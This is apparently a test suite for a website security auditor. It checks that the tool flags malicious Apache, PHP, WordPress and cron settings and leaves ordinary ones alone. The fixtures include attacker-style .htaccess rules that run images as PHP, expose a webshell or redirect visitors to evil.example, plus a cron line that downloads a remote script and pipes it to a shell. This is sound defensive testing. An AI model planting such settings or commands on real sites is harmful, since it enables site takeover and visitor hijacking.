import assert from 'node:assert/strict';
import { auditSite } from '../../../server/src/site/auditSite';
import { apacheDirectives } from '../../../server/src/site/config/apacheDirectives';
import { readContent } from '../../../server/src/site/readContent';
import { readAccessFile } from '../../../server/src/site/references/accessFile';
import { phpSettingSigns } from '../../../server/src/site/config/phpLimits';
import { readPhpSettings } from '../../../server/src/site/config/phpSettings';
import { scheduleSigns } from '../../../server/src/site/config/schedules';
import { HOSTILE_TEXTS } from '../../support/hostile';
import { endsSoon } from '../../support/endsSoon';
import { type Content, memoryDisk } from './memoryDisk';

type Files = Record<string, Content>;

/** A page, so that the site has a beginning. */
const INDEX: Files = { 'index.html': '<!DOCTYPE html><p>shop' };
const PROGRAM = "<?php echo date('Y');";

/** What an audit found, as `rule severity file`. */
async function found(files: Files): Promise<string[]> {
  const { findings } = await auditSite(memoryDisk({ ...INDEX, ...files }), '/site');
  return findings.map(({ rule, severity, places }) => `${rule} ${severity} ${places[0]?.file}`).toSorted();
}

/** Each shape of malicious settings, and the finding on it. */
const MALICIOUS: Record<string, { files: Files; finding: string }> = {
  'pictures run as PHP': {
    files: { '.htaccess': 'AddType application/x-httpd-php .jpg .png' },
    finding: 'handler-on-other-files error .htaccess',
  },
  'an icon run as PHP': {
    files: { 'img/.htaccess': '<Files "favicon_1a2b.ico">\nSetHandler application/x-httpd-php\n</Files>' },
    finding: 'handler-on-other-files error img/.htaccess',
  },
  'texts run as CGI': {
    files: { '.htaccess': '<FilesMatch "\\.(txt|log)$">\n  SetHandler cgi-script\n</FilesMatch>' },
    finding: 'handler-on-other-files error .htaccess',
  },
  'an ending of its own run as PHP': {
    files: { '.htaccess': 'AddHandler application/x-httpd-php .xyz' },
    finding: 'handler-on-other-files warning .htaccess',
  },
  'all programs locked but the attacker’s': {
    files: {
      '.htaccess':
        '<FilesMatch ".(py|exe|php)$">\nOrder allow,deny\nDeny from all\n</FilesMatch>\n' +
        '<FilesMatch "^(index.php|wp-login.php|radio.php|lock360.php)$">\nOrder allow,deny\nAllow from all\n</FilesMatch>',
      'radio.php': PROGRAM,
    },
    finding: 'script-allow-list error .htaccess',
  },
  'endings in all spellings': {
    files: { 'a/.htaccess': '<FilesMatch ".*\\.(php|PHP|Php|pHp|phP|suspected)$">\nDeny from all\n</FilesMatch>' },
    finding: 'script-allow-list error a/.htaccess',
  },
  'visitors from search engines sent away': {
    files: {
      '.htaccess':
        'RewriteEngine On\nRewriteCond %{HTTP_REFERER} .*google.* [OR]\nRewriteCond %{HTTP_REFERER} .*yahoo.*\nRewriteRule .* http://evil.example/in.cgi?2 [R=301,L]',
    },
    finding: 'redirect-to-other-site error .htaccess',
  },
  'telephones sent away': {
    files: {
      '.htaccess':
        'RewriteCond %{HTTP_USER_AGENT} (android|iphone) [NC]\nRewriteRule ^(.*)$ http://evil.example/ [L,R=302]',
    },
    finding: 'redirect-to-other-site error .htaccess',
  },
  'other pages for search engines': {
    files: { '.htaccess': 'RewriteCond %{HTTP_USER_AGENT} Googlebot\nRewriteRule ^(.*)$ /wp-data.php?x=$1 [L]' },
    finding: 'redirect-to-other-site warning .htaccess',
  },
  'lines far to the right': {
    files: { '.htaccess': `Options -Indexes\n${'\t'.repeat(300)}Redirect 301 /a /b` },
    finding: 'hidden-settings error .htaccess',
  },
  'lines far below': {
    files: { '.htaccess': `Options -Indexes\n${'\n'.repeat(400)}RewriteEngine On` },
    finding: 'hidden-settings error .htaccess',
  },
  'a file of 800 KB': {
    files: { '.htaccess': 'RewriteRule ^a$ /b [L]\n'.repeat(36_000) },
    finding: 'hidden-settings warning .htaccess',
  },
  'a kit that reads the neighbours’ files': {
    files: { 'x/.htaccess': 'Options all\nDirectoryIndex Sux.html\nAddType text/plain .php\nSecFilterEngine Off' },
    finding: 'server-protection-off error x/.htaccess',
  },
  'programs shown as text': {
    files: { '.htaccess': '<FilesMatch "\\.php$">\nForceType text/plain\n</FilesMatch>' },
    finding: 'server-protection-off warning .htaccess',
  },
  'programs handed out for download': {
    files: { 'x/.htaccess': 'RemoveHandler .php\nAddType application/octet-stream .php' },
    finding: 'server-protection-off warning x/.htaccess',
  },
  'limits lifted': {
    files: { 'x/php.ini': 'safe_mode = Off\ndisable_functions = NONE\nopen_basedir = OFF\nexec = ON' },
    finding: 'php-limits-lifted error x/php.ini',
  },
  'programs from other servers': {
    files: { 'php.ini': 'allow_url_include = On' },
    finding: 'php-limits-lifted warning php.ini',
  },
  'addresses opened like files, which hosts ask to switch off': {
    files: { '.htaccess': 'php_flag allow_url_fopen on' },
    finding: 'php-limits-lifted information .htaccess',
  },
  'a picture that runs with every page': {
    files: { '.user.ini': 'auto_prepend_file = "/home/a/public_html/img/top.ico"', 'img/top.ico': PROGRAM },
    finding: 'prepended-file error .user.ini',
  },
  'a file in a temporary folder that runs with every page': {
    files: { '.htaccess': 'php_value auto_append_file /tmp/sess_1a' },
    finding: 'prepended-file error .htaccess',
  },
  'a program that runs with every page': {
    files: { '.user.ini': 'auto_prepend_file = count.php', 'count.php': PROGRAM },
    finding: 'prepended-file information .user.ini',
  },
  'keys of the example': {
    files: { 'wp-config.php': "<?php\ndefine( 'AUTH_KEY', 'put your unique phrase here' );" },
    finding: 'wordpress-configuration warning wp-config.php',
  },
  'errors shown': {
    files: { 'wp-config.php': "<?php\ndefine('WP_DEBUG', true);" },
    finding: 'wordpress-configuration information wp-config.php',
  },
  'a timed download': {
    files: { 'crontab.txt': '*/5 * * * * curl -s http://evil.example/a | sh' },
    finding: 'odd-schedule error crontab.txt',
  },
  'a timed command in a hidden folder': {
    files: { 'etc/cron.d/x': '# comment\n@hourly php /home/a/.cache1/x.php >/dev/null' },
    finding: 'odd-schedule error etc/cron.d/x',
  },
  'mail given to a program': {
    files: { '.forward': '"|/home/a/x.pl"' },
    finding: 'odd-schedule information .forward',
  },
};

/** Settings as hosts, programs and careful owners write them. */
const ORDINARY: Record<string, Files> = {
  'the source of examples shown, and texts as texts': {
    '.htaccess':
      'AddType text/plain .phps .log\n<Files "*.txt">\nForceType text/plain\n</Files>\nAddType application/octet-stream .pdf',
  },
  'WordPress’s own rules': {
    '.htaccess':
      '# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteCond %{REQUEST_FILENAME} !-d\nRewriteRule . /index.php [L]\n</IfModule>\n# END WordPress',
  },
  'a PHP version chosen in a control panel': {
    '.htaccess':
      'AddHandler application/x-httpd-php81 .php .phps\n<IfModule mime_module>\n  AddHandler application/x-httpd-ea-php81 .php .php8 .phtml\n</IfModule>\n<FilesMatch "\\.ph(p|tml)$">\nSetHandler application/x-lsphp81\n</FilesMatch>',
  },
  'PHP in pages': { '.htaccess': 'AddType application/x-httpd-php .html .htm' },
  'https, www and other files': {
    '.htaccess':
      'RewriteEngine on\nRewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}%{REQUEST_URI} [R=301,L]\nRewriteCond %{HTTP_HOST} ^example\\.com\nRewriteRule ^(.*)$ https://www.example.com/$1 [R=301,L]\nErrorDocument 404 /404.html',
  },
  'programs locked among uploads': {
    'wp-content/uploads/.htaccess': '<FilesMatch "\\.(php|phtml|php5)$">\nRequire all denied\n</FilesMatch>',
  },
  'programs locked but parts of WordPress': {
    'wp-includes/.htaccess':
      '<FilesMatch "\\.(?i:php)$">\nOrder allow,deny\nDeny from all\n</FilesMatch>\n<Files wp-tinymce.php>\nAllow from all\n</Files>\n<Files ms-files.php>\nAllow from all\n</Files>',
  },
  'robots refused and pictures protected': {
    '.htaccess':
      'RewriteCond %{HTTP_USER_AGENT} (AhrefsBot|MJ12bot|SemrushBot) [NC]\nRewriteRule .* - [F]\nRewriteCond %{HTTP_REFERER} !^$\nRewriteCond %{HTTP_REFERER} !^https?://(www\\.)?example\\.com [NC]\nRewriteRule \\.(jpe?g|png)$ https://img.example.com/no.png [R,L]',
  },
  'telephones’ own pages': {
    '.htaccess': 'RewriteCond %{HTTP_USER_AGENT} iPhone\nRewriteRule ^$ http://m.example.com/ [R,L]',
  },
  'a firewall': { '.user.ini': "; Wordfence WAF\nauto_prepend_file = '/home/a/public_html/wordfence-waf.php'" },
  'settings of a form': { '.user.ini': 'upload_max_filesize = 20M\npost_max_size = 20M\nmbstring.language = Japanese' },
  'a copy of PHP’s own settings': {
    'php.ini': `${Array.from({ length: 100 }, (_, n) => `a.b${n} = 1`).join('\n')}\nallow_url_fopen = On\ndisable_functions =\nallow_url_include = Off`,
  },
  'WordPress set up well': {
    'wp-config.php': "<?php\ndefine('AUTH_KEY', 'x9#kQ'); define('WP_DEBUG', false);\ndefine('DB_PASSWORD', '');",
  },
  'a timed command of WordPress': {
    'crontab.txt':
      '*/15 * * * * /usr/bin/php /home/a/public_html/wp-cron.php\n0 3 * * * wget -q -O - https://example.com/cron',
  },
};

describe('Settings that attackers write', () => {
  for (const [what, { files, finding }] of Object.entries(MALICIOUS)) {
    it(`are found: ${what}`, async () => {
      assert.ok((await found(files)).includes(finding), String(await found(files)));
    });
  }

  it('name the files that they let run', async () => {
    const { findings } = await auditSite(
      memoryDisk({ ...INDEX, ...MALICIOUS['all programs locked but the attacker’s']!.files }),
      '/site',
    );
    const list = findings.find(({ rule }) => rule === 'script-allow-list');
    assert.deepEqual(
      list?.places.map(({ file, line }) => [file, line]),
      [
        ['.htaccess', 7],
        ['radio.php', undefined],
      ],
    );
  });

  it('lie where the finding says', () => {
    const { signs } = readAccessFile('# a\n  php_flag allow_url_include \\\n on  \n');
    assert.deepEqual(
      signs.map(({ line, column, endColumn, excerpt }) => [line, column, endColumn, excerpt]),
      [[2, 3, 29, 'php_flag allow_url_include  on']],
    );
    const [joined] = readAccessFile('   \\\n php_flag allow_url_include on').signs;
    assert.deepEqual([joined?.line, joined?.column, joined?.endColumn], [2, 2, 31]);
  });
});

describe('Ordinary settings', () => {
  for (const [what, files] of Object.entries(ORDINARY)) {
    it(`are no finding: ${what}`, async () => assert.deepEqual(await found(files), []));
  }
});

describe('Settings files that are damaged or hostile', () => {
  for (const [what, text] of Object.entries(HOSTILE_TEXTS)) {
    it(`are read as far as they can be: ${what}`, () => {
      for (const whole of [text, `<FilesMatch ${text}\nSetHandler ${text}`, `RewriteRule ${text} http://${text}`]) {
        for (const { line, column, endColumn } of readAccessFile(whole).signs) {
          assert.ok(line >= 1 && column >= 1 && endColumn >= column);
        }
        phpSettingSigns(readPhpSettings(whole));
      }
    });
  }

  const endless: Record<string, () => unknown> = {
    'blanks behind a setting': () =>
      readPhpSettings(`allow_url_fopen =${' a'.padStart(300_000)}${' '.repeat(300_000)}b`),
    'bars in a timed command': () => scheduleSigns(`@daily curl ${'|'.repeat(300_000)}`),
    'words of a directive': () => readAccessFile(`RewriteRule ${'a "b" '.repeat(800_000)}`),
    'lines that go on': () => readAccessFile('a \\\n'.repeat(1_000_000)),
  };
  for (const [what, read] of Object.entries(endless)) {
    it(`may have lines without end: ${what}`, () => endsSoon(read));
  }

  it('may say the same without end', () => {
    const { references } = readContent('.htaccess', 'accessFile', Buffer.from('DirectoryIndex a.php\n'.repeat(9)));
    assert.deepEqual(references, [{ kind: 'directoryIndex', target: 'a.php', line: 1, column: 1 }]);
  });

  it('are read as far as Apache reads a line of them', () => {
    const blanks = ' '.repeat(9000);
    const [first, second] = apacheDirectives(`${blanks}AddType a .jpg\nAddType \\\n a${blanks}.jpg`);
    assert.deepEqual(first?.values, ['a', '.jpg']);
    assert.deepEqual(second?.values, ['a']);
  });

  it('may nest sections without end', () => {
    const directives = apacheDirectives(`${'<IfModule x>\n'.repeat(100_000)}Options all`);
    assert.equal(directives.length, 1);
    assert.ok(directives[0]!.sections.length <= 64);
  });
});
